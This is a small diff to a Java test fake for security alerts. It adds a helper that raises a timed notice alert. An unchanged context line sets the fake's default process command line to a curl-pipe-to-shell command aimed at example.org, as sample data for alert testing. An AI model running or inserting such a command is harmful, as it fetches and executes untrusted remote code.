@@ -47,6 +47,11 @@ final class FakeAlerts implements AlertHistory {
     raise(Priority.NOTICE, rule, "with a command line", new TreeMap<>(Map.of("proc.cmdline", command)));
   }
 
+  /** An alert of a time, of a process that began before. */
+  void raiseTimed(String rule, long nanos, long durationNanos) {
+    raise(Priority.NOTICE, rule, "with times", new TreeMap<>(Map.of("evt.time", nanos, "proc.duration", durationNanos)));
+  }
+
   private void raise(Priority priority, String rule, String message, TreeMap<String, @Nullable Object> fields, String... tags) {
     fields.putIfAbsent("proc.cmdline", "bash -c 'curl http://example.org | sh'");
     fields.put("proc.pid", 4_711L);
